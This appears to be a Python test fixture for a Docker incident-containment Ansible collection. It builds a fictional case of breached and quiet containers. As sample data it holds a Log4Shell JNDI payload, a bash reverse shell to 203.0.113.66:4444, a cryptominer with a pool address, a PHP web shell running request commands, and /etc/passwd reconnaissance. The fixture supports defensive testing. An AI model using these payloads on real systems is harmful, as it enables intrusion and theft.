# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The containers of the made-up case: those that were broken into, and their quiet neighbours."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from ansible_collections.cordon.docker.plugins.module_utils._containment.record import DONE, Change, Record
from ansible_collections.cordon.docker.plugins.module_utils._containment.steps import Pause
from ansible_collections.cordon.docker.plugins.module_utils._evidence.jsonl import utc
from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis.build_case import (
    Rows,
    connection,
    file,
    inspect,
    listener,
    process,
)

START = 1772359200.0  # 2026-03-01T10:00:00Z
INTRUDER = "203.0.113.66"
JNDI = "${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/Exploit}"


@dataclass(frozen=True)
class Part:
    """A container before it has a place in the fleet, and after `on` with the items of its evidence."""

    name: str
    image: str
    make: Callable[[], dict[str, Any]]
    cpu: float = 0.7
    id: str = ""
    items: dict[str, Any] = field(default_factory=dict)

    def on(self, host: int, place: int, log_lines: int) -> Part:
        """The container at its place, with a log of that many lines."""
        made = self.make()
        number = hashlib.sha256(f"{host}/{place}/{self.name}".encode()).hexdigest()
        document = inspect(**made.pop("inspect", {}))
        document |= {
            "Id": number,
            "Name": f"/{self.name}",
            "Created": "2026-03-01T09:59:58.1Z",
            "Image": "sha256:" + number[::-1],
        }
        document["Config"] = {
            "Image": self.image,
            "Cmd": made.pop("cmd"),
            "Env": ["PATH=/usr/bin", "DB_PASSWORD=s3cret"],
        }
        document["State"] |= {"Status": "running"}
        document["NetworkSettings"] = {
            "Networks": {"shop_default": {"IPAddress": f"172.18.0.{place + 2}"}},
            "Ports": {"8080/tcp": [{"HostIp": "0.0.0.0", "HostPort": str(8080 + place)}]},
        }
        hits = made.pop("hits", [])
        items = {
            "inspect.json": document,
            "stats.json": stats(self.cpu, 1),
            **made,
            "logs/tail.jsonl": _log(log_lines, hits),
        }
        if hits:
            items["logs/hits.jsonl"] = [
                {**row, "number": number * 9 + 4, "pattern": "jndi|cmd="} for number, row in enumerate(hits)
            ]
        return Part(self.name, self.image, self.make, self.cpu, number[:12], items)

    @property
    def earlier_stats(self) -> dict[str, Any]:
        return stats(self.cpu / 3, 0)


def stats(cpu: float, run: int) -> dict[str, Any]:
    second = {"time": utc(START + 7500 + run * 1500)}
    return {
        "source": "cgroup",
        "cpu_percent": cpu,
        "cpus_online": 8,
        "memory_bytes": int(90e6 + cpu * 3e6),
        "memory_limit_bytes": 33 << 30,
        "memory_percent": 0.3,
        "pids": 9,
        "network": {"rx_bytes": 48_201_993, "tx_bytes": 9_120_331},
        "block": {"read_bytes": 1 << 20, "write_bytes": 77 << 10},
        "first": {},
        "second": second,
        "seconds": 0.25,
    }


def _log(lines: int, hits: Rows) -> Rows:
    """An access log, the hits two thirds down."""
    rows: Rows = []
    for number in range(lines):
        if number == lines * 2 // 3:
            rows += hits
        when = f"01/Mar/2026:11:2{number % 10}:00 +0000"
        line = f'10.0.4.{number % 200} - - [{when}] "GET /basket?item={number} HTTP/1.1" 200 512'
        rows.append({"time": utc(START + 4000 + number * 20), "stream": "stdout", "line": line})
    return rows


_SHELL = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
_SOCKET = {"0": "socket:[77123]", "1": "socket:[77123]"}
_MINER = "/tmp/.x/kdevtmpfsi"


def _at(seconds: float) -> str:
    return utc(START + seconds)


def _java() -> dict[str, Any]:
    bash = {"user": "app", "stdio": _SOCKET}
    rows = [
        process(100, 90, "/opt/java/bin/java", "java", "-jar", "/app/orders.jar", user="app", started=_at(2)),
        process(5210, 100, "/usr/bin/bash", "bash", "-c", _SHELL, started=_at(5405), **bash),
        process(5211, 5210, "/usr/bin/bash", "bash", "-i", started=_at(5406), **bash),
        process(
            5260,
            5211,
            _MINER,
            _MINER,
            "-o",
            "pool.example:3333",
            user="app",
            state="upper",
            started=_at(5460),
        ),
    ]
    sockets = [
        listener(100, 8080),
        connection(77123, INTRUDER, 4444, 5211),
        connection(77124, "198.51.100.9", 3333, 5260),
        connection(77125, "172.18.0.3", 5432, 100),
    ]
    return {
        "cmd": ["java", "-jar", "/app/orders.jar"],
        "processes.jsonl": rows,
        "sockets.jsonl": [{**row, "process": "java"} for row in sockets],
        "layer.jsonl": _java_files(),
        "hits": [_hit(number, f"/search?q={JNDI}") for number in range(2)],
        "changes.jsonl": [
            {"kind": "A", "path": _MINER, "source": "kernel"},
            {"kind": "D", "path": "/root/.bash_history", "source": "kernel"},
        ],
    }


def _java_files() -> Rows:
    miner = {"executable": True, "mode": "0755", "bytes": 2_840_112, "sha256": "9f" * 32}
    return [
        file(_MINER, ctime=_at(5440), mtime="2019-05-04T00:00:00.000000Z", **miner),
        file("/app/logs/orders.log", kind="C", bytes=88_120, ctime=_at(5000), mtime=_at(5000)),
        file("/tmp/hsperfdata_app/1", bytes=32768, ctime=_at(5), mtime=_at(5)),
    ]


def _hit(number: int, path: str) -> dict[str, Any]:
    line = f'{INTRUDER} - - "GET {path} HTTP/1.1" 200 213 "-" "curl/8.5.0"'
    return {"time": _at(5400 + number), "stream": "stdout", "line": line}


def _webshell() -> dict[str, Any]:
    head = '<?php\n// thumbnails\nif (isset($_REQUEST["cmd"])) {\n    system($_REQUEST["cmd"]);\n}\n?>\n'
    rows = [
        process(100, 90, "/usr/sbin/apache2", "apache2", "-D", "FOREGROUND", user="root", started=utc(START))
    ]
    rows += [
        process(
            200 + number,
            100,
            "/usr/sbin/apache2",
            "apache2",
            "-D",
            "FOREGROUND",
            user="www-data",
            started=utc(START + 3),
        )
        for number in range(6)
    ]
    rows.append(
        process(
            900,
            203,
            "/usr/bin/dash",
            "sh",
            "-c",
            "id; uname -a; cat /etc/passwd",
            user="www-data",
            started=utc(START + 5521),
        )
    )
    files = [
        file(
            "/var/www/html/uploads/thumb.php",
            code="php",
            head=head,
            bytes=len(head),
            sha256="227e" * 16,
            ctime=utc(START + 5500),
            mtime=utc(START + 5500),
        )
    ]
    words = ("id", "uname%20-a", "cat%20/etc/passwd")
    hits = [_hit(110 + number, f"/uploads/thumb.php?cmd={word}") for number, word in enumerate(words)]
    return {
        "cmd": ["apache2", "-D", "FOREGROUND"],
        "processes.jsonl": rows,
        "sockets.jsonl": [listener(100, 80)],
        "layer.jsonl": files,
        "hits": hits,
    }


def _open_door() -> dict[str, Any]:
    mounts = [
        {"Type": "bind", "Source": "/var/run/docker.sock", "Destination": "/var/run/docker.sock", "RW": True}
    ]
    rows = [
        process(
            100, 90, "/usr/local/bin/gitlab-runner", "gitlab-runner", "run", user="root", started=utc(START)
        )
    ]
    return {
        "cmd": ["gitlab-runner", "run"],
        "processes.jsonl": rows,
        "sockets.jsonl": [],
        "layer.jsonl": [],
        "inspect": {
            "mounts": mounts,
            "host_config": {"Privileged": True, "PidMode": "host", "CapAdd": ["SYS_ADMIN"]},
        },
    }


def _service(exe: str, *words: str, port: int) -> Callable[[], dict[str, Any]]:
    def make() -> dict[str, Any]:
        rows = [
            process(100, 90, exe, *words, user="app", started=utc(START + 1)),
            process(110, 100, exe, *words, user="app", started=utc(START + 2)),
        ]
        files = [file(f"/var/log/{port}.log", kind="C", ctime=utc(START + 60), mtime=utc(START + 60))]
        sockets = [listener(100, port), connection(88_000 + port, "172.18.0.9", 40_222, 110, local_port=port)]
        return {"cmd": list(words), "processes.jsonl": rows, "sockets.jsonl": sockets, "layer.jsonl": files}

    return make


ORDERS = Part("orders", "acme/orders:5.2", _java, cpu=387.4)
GALLERY = Part("gallery", "acme/gallery:2.0", _webshell)
RUNNER = Part("ci-runner", "gitlab/gitlab-runner:17", _open_door)
QUIET = (
    Part("shop", "acme/shop:5.2", _service("/usr/sbin/nginx", "nginx: master process", port=8081), 1.2),
    Part("stock", "acme/stock:3.1", _service("/usr/bin/node", "node", "/srv/stock.js", port=3000), 4.8),
    Part(
        "ledger", "postgres:16", _service("/usr/lib/postgresql/16/bin/postgres", "postgres", port=5432), 2.5
    ),
    Part("cache", "redis:7", _service("/usr/bin/redis-server", "redis-server *:6379", port=6379), 0.9),
    Part("mail", "acme/mail:1.4", _service("/usr/bin/python3", "python3", "-m", "mail", port=8025), 0.1),
    Part("search", "acme/search:8", _service("/usr/share/search/bin/search", "search", port=9200), 12.0),
)


@cache
def breach(host: int, place: int) -> Part | None:
    """What was broken into or stands open: the order service here and there, a gallery, a runner."""
    if place == 1 and host % 10 in (0, 1):
        return ORDERS
    if place == 2 and host % 10 == 0:
        return GALLERY
    return RUNNER if place == 3 and host % 10 == 4 else None


def record(part: Part) -> Record:
    """The undo record of a container that was paused."""
    container = str(part.items["inspect.json"]["Id"])
    step = Pause(container)
    return Record(container, part.name, (Change(step, DONE, utc(START + 9010), "INC-7", "contain"),))


__all__ = ["GALLERY", "ORDERS", "QUIET", "START", "Part", "breach", "record"]
